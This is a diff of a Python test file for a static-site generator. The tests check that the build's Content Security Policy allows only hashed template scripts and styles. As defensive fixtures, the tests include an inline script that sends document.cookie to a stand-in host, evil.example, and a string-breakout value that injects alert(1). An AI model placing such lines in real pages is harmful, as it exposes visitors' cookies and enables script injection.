@@ -10,10 +10,10 @@ import time
 
 import pytest
 
-from generator.site import assets
+from generator.site import csp as assets
 from generator.content.errors import ContentErrors
 from generator.content.loader import MAX_FILE_BYTES, load_toolkit
-from sitekit import ENV, build_site, make_content
+from sitekit import ENV, PROJECT, build_site, make_content
 
 
 def errors_for(content) -> list:
@@ -156,20 +156,23 @@ def test_titles_are_escaped_wherever_the_theme_prints_them(tmp_path):
 
 # --- The CSP allows only our templates' scripts --------------------------------------------------
 
+OVERRIDES = PROJECT / "site_templates" / "overrides"
+
+
 def theme_base_script(scope: str = "..") -> str:
     """The theme's start-up script as its template renders it on a page one level down."""
-    theme = assets._theme_templates() / assets.THEME_SCRIPT_FOLDER / "base.html"
+    theme = assets.theme_templates()[0] / assets.THEME_SCRIPT_FOLDER / "base.html"  # Material's
     body = assets._SCRIPT.search(theme.read_text(encoding="utf-8")).group(2)
     return assets._JINJA_VALUE.sub(scope, body)
 
 
 def test_the_csp_hashes_the_templates_scripts(tmp_path):
-    start = assets._SCRIPT.search((assets.OVERRIDES / "partials" / "calculator-start.html").read_text()).group(2)
+    start = assets._SCRIPT.search((OVERRIDES / "partials" / "calculator-start.html").read_text()).group(2)
     page = tmp_path / "calc" / "index.html"
     page.parent.mkdir()
     page.write_text(f'<meta content="{assets.CSP_PLACEHOLDER}"><script>{start}</script>\n<script>{theme_base_script()}</script>'
                     '<script type="application/json">{"x": 1}</script>')
-    csp = assets.apply_csp(tmp_path)
+    csp = assets.apply_csp(tmp_path, OVERRIDES)
     assert csp.count("'sha256-") == 2
     assert all(h in csp for h in assets.inline_script_hashes(page.read_text()))
 
@@ -180,7 +183,7 @@ def test_an_unknown_inline_script_fails_the_build_naming_the_page(tmp_path):
     page.write_text(f"<meta content=\"{assets.CSP_PLACEHOLDER}\">\n<script>{theme_base_script()}</script>\n"
                     "<p>Hello</p>\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n")
     with pytest.raises(assets.UnknownScript) as info:
-        assets.apply_csp(tmp_path)
+        assets.apply_csp(tmp_path, OVERRIDES)
     assert str(info.value).startswith("about/index.html:4: an inline script that none of the site\u2019s templates put there: "
                                       "\"fetch('https://evil.example/?' + document.cookie)\"")
     assert assets.CSP_PLACEHOLDER in page.read_text(), "no page gets a policy that would allow it"
@@ -192,7 +195,7 @@ def test_a_known_script_with_code_added_is_unknown(tmp_path):
     smuggled = theme_base_script('..",location),alert(1),("')
     page.write_text("<script>" + smuggled + "</script>")
     with pytest.raises(assets.UnknownScript):
-        assets.apply_csp(tmp_path)
+        assets.apply_csp(tmp_path, OVERRIDES)
 
 
 # --- YAML read safely ----------------------------------------------------------------------------
@@ -390,3 +393,23 @@ def test_no_edit_of_a_content_file_gives_a_traceback(tmp_path_factory):
             path.write_text(original, encoding="utf-8")
 
     edit()
+
+
+def test_a_style_the_themes_script_makes_from_a_constant_is_allowed_by_its_hash_alone(tmp_path):
+    """Zensical's search dialog adds a <style> made from a string in its script: the CSP allows that
+    text by hash (so the dialog is styled), not inline styles in general."""
+    import base64
+    import hashlib
+
+    scripts = tmp_path / "assets" / "javascripts"
+    scripts.mkdir(parents=True)
+    css = '.u{content:"\\u00e9"}\n.l{color:red}'
+    (scripts / "bundle.0123abcd.min.js").write_text(
+        "var Tc='.u{content:\"\\\\u00e9\"}\\n.l{color:red}',Zz=1;function f(){o.appendChild(C(\"style\",{},Tc.toString()))}")
+    (tmp_path / "index.html").write_text(f'<meta content="{assets.CSP_PLACEHOLDER}"><p>Hi</p>')
+    expected = "'sha256-" + base64.b64encode(hashlib.sha256(css.encode()).digest()).decode() + "'"
+    assert assets.theme_style_hashes(tmp_path) == {expected}
+    csp = assets.apply_csp(tmp_path, OVERRIDES)
+    assert f"style-src 'self' {expected};" in csp and "unsafe-inline" not in csp
+    (scripts / "bundle.0123abcd.min.js").write_text("var Tc='.u{}';function f(){}")
+    assert assets.theme_style_hashes(tmp_path) == set()
